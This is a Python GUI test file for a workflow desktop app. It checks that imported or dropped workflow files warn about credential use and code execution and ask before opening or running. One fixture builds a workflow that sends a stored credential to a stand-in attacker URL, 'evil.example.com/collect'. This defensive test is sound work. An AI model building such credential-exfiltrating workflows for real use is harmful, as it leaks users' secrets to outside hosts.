"""Opening a workflow file from elsewhere in the app (File > Import, a drop, Open recent) says what it would do
with this machine's credentials first, and its code runs only after the person allowed it (issue 22.2)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from PySide6.QtCore import QMimeData, QPointF, Qt, QTimer, QUrl
from PySide6.QtGui import QDragEnterEvent, QDropEvent
from PySide6.QtWidgets import QApplication, QMessageBox
from pytestqt.qtbot import QtBot
from test_run_window import activate, press_run

from flowdesk.paths import examples_dir
from flowdesk.providers.settings import CredentialInfo, LLMSettings, save_settings
from flowdesk.ui.main_window import MainWindow
from flowdesk.ui.runs.inputs_dialog import RunInputsDialog

EVIL = "https://evil.example.com/collect"


def write_workflow(folder: Path, name: str, nodes: list[dict], edges: list[dict] | None = None) -> Path:
    data = {"format": "flowdesk.workflow", "format_version": 1, "id": name, "name": name, "nodes": nodes,
            "edges": edges or []}  # fmt: skip
    path = folder / f"{name}.json"
    path.write_text(json.dumps(data))
    return path


def sends_a_key(folder: Path) -> Path:
    return write_workflow(
        folder, "sneaky",
        [{"id": "start", "kind": "start"}, {"id": "call", "kind": "http", "config": {"url": EVIL, "credential": "svc"}},
         {"id": "out", "kind": "output", "config": {"name": "body"}}],
        [{"id": "e1", "source": "call", "source_port": "body", "target": "out", "target_port": "value"},
         {"id": "e0", "source": "start", "source_port": "inputs", "target": "call", "target_port": "input"}],
    )  # fmt: skip


def writes_files(folder: Path) -> Path:
    return write_workflow(
        folder, "writer",
        [{"id": "start", "kind": "start"},
         {"id": "save", "kind": "tool", "config": {"tool": "file_write", "args": {"path": "x.txt", "content": "hi"}}}],
        [{"id": "e0", "source": "start", "source_port": "inputs", "target": "save", "target_port": "input"}],
    )  # fmt: skip


@pytest.fixture
def stored_key() -> None:
    """A credential 'svc' whose key may go to api.example.org only (as `flowdesk credentials add` makes it)."""
    save_settings(
        LLMSettings().with_credential(CredentialInfo(name="svc", provider="http", hosts=("api.example.org",)))
    )


def answer_box(button_text: str, seen: list[str]) -> None:
    """Press ``button_text`` in the next message box, keeping its text and informative text in ``seen``."""

    def look() -> None:
        box = QApplication.activeModalWidget()
        if not isinstance(box, QMessageBox):
            QTimer.singleShot(20, look)
            return
        seen.append(f"{box.text()}\n{box.informativeText()}")
        button = next(b for b in box.buttons() if b.text().replace("&", "") == button_text)
        button.click()

    QTimer.singleShot(0, look)


def import_with_ctrl_i(qtbot: QtBot, win: MainWindow, path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("flowdesk.ui.file_actions.open_file_name", lambda *_args: str(path))
    activate(qtbot, win)
    qtbot.keyClick(win, Qt.Key.Key_I, Qt.KeyboardModifier.ControlModifier)


def test_importing_says_which_credentials_and_where_their_keys_go_and_cancel_imports_nothing(
    qtbot: QtBot, window: MainWindow, tmp_path: Path, stored_key: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[str] = []
    answer_box("Cancel", seen)
    import_with_ctrl_i(qtbot, window, sends_a_key(tmp_path), monkeypatch)
    assert seen, "no question was asked"
    assert f"node 'call' uses credential 'svc' for {EVIL}; its key may go to: api.example.org" in seen[0]
    assert window.document.workflow.name == "Untitled workflow"  # nothing opened
    assert not window.store.workflows.exists("sneaky")  # nothing stored
    assert "Nothing opened" in window.statusBar().currentMessage()

    answer_box("Open it", seen)
    import_with_ctrl_i(qtbot, window, sends_a_key(tmp_path), monkeypatch)
    assert window.document.workflow.id == "sneaky"
    window.new_workflow()
    assert window.open_workflow(str(tmp_path / "sneaky.json"))  # reopened as it was: no second question
    assert len(seen) == 2
    data = json.loads((tmp_path / "sneaky.json").read_text())
    data["nodes"][1]["config"]["url"] = "https://other.example.net/"
    (tmp_path / "sneaky.json").write_text(json.dumps(data))
    answer_box("Cancel", seen)
    window.new_workflow()
    assert not window.open_workflow(str(tmp_path / "sneaky.json"))  # it sends the key elsewhere now: asked
    assert "https://other.example.net/" in seen[2]


def test_a_quiet_file_and_a_shipped_example_open_without_a_question(
    qtbot: QtBot, window: MainWindow, tmp_path: Path
) -> None:
    quiet = write_workflow(tmp_path, "quiet", [{"id": "start", "kind": "start"}])
    assert window.open_workflow(str(quiet))  # a question would block here: no one answers it
    assert window.open_workflow(str(examples_dir() / "ask_llm.json"))


def test_an_imported_workflow_that_runs_code_asks_once_before_it_runs(
    qtbot: QtBot, window: MainWindow, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[str] = []
    answer_box("Open it", seen)
    import_with_ctrl_i(qtbot, window, writes_files(tmp_path), monkeypatch)
    assert "node 'save' calls the built-in tool 'file_write', which writes files" in seen[0]
    assert window.document.workflow.id == "writer"

    answer_box("No", seen)
    press_run(qtbot, window)
    assert "'writer' was imported from a file and runs code" in seen[1]
    assert not window.store.runs.list("writer") and not window.runs.controller.running_ids()
    assert "Not run" in window.statusBar().currentMessage()

    asked_for_inputs: list[bool] = []

    def cancel_inputs() -> None:
        dialog = QApplication.activeModalWidget()
        if isinstance(dialog, QMessageBox):
            QTimer.singleShot(20, cancel_inputs)
            return
        if not isinstance(dialog, RunInputsDialog):
            QTimer.singleShot(20, cancel_inputs)
            return
        asked_for_inputs.append(True)
        dialog.reject()

    answer_box("Yes", seen)
    QTimer.singleShot(0, cancel_inputs)
    press_run(qtbot, window)
    assert asked_for_inputs == [True]  # allowed: on to the run's own questions (its files folder)
    questions = len(seen)
    QTimer.singleShot(0, cancel_inputs)
    press_run(qtbot, window)
    assert asked_for_inputs == [True, True] and len(seen) == questions  # not asked a second time


def drop_file(window: MainWindow, path: Path) -> bool:
    data = QMimeData()
    data.setUrls([QUrl.fromLocalFile(str(path))])
    actions = Qt.DropAction.CopyAction
    enter = QDragEnterEvent(
        QPointF(50, 50).toPoint(), actions, data, Qt.MouseButton.LeftButton, Qt.KeyboardModifier.NoModifier
    )
    QApplication.sendEvent(window, enter)
    drop = QDropEvent(QPointF(50, 50), actions, data, Qt.MouseButton.LeftButton, Qt.KeyboardModifier.NoModifier)
    QApplication.sendEvent(window, drop)
    return enter.isAccepted()


def test_a_dropped_workflow_file_asks_as_import_does(
    qtbot: QtBot, window: MainWindow, tmp_path: Path, stored_key: None
) -> None:
    seen: list[str] = []
    answer_box("Cancel", seen)
    assert drop_file(window, sends_a_key(tmp_path))
    assert "uses credential 'svc'" in seen[0]
    assert window.document.workflow.name == "Untitled workflow"
    quiet = write_workflow(tmp_path, "dropped", [{"id": "start", "kind": "start"}])
    assert drop_file(window, quiet)
    assert window.document.workflow.id == "dropped"


def test_code_in_a_workflow_it_calls_is_said_and_asked_about_too(
    qtbot: QtBot, window: MainWindow, tmp_path: Path
) -> None:
    writes_files(tmp_path)  # writer.json, which the caller calls
    caller = write_workflow(
        tmp_path, "caller",
        [{"id": "start", "kind": "start"}, {"id": "call", "kind": "subworkflow", "config": {"workflow": "writer.json"}}],
        [{"id": "e0", "source": "start", "source_port": "inputs", "target": "call", "target_port": "inputs"}],
    )  # fmt: skip
    seen: list[str] = []
    answer_box("Open it", seen)
    assert window.open_workflow(str(caller))
    assert "via the workflow it calls, 'writer.json': node 'save' calls the built-in tool 'file_write'" in seen[0]
    assert window.runs.run_action.isEnabled()
    answer_box("No", seen)
    press_run(qtbot, window)
    assert len(seen) == 2 and "via the workflow it calls, 'writer.json'" in seen[1]
    assert not window.store.runs.list("caller")
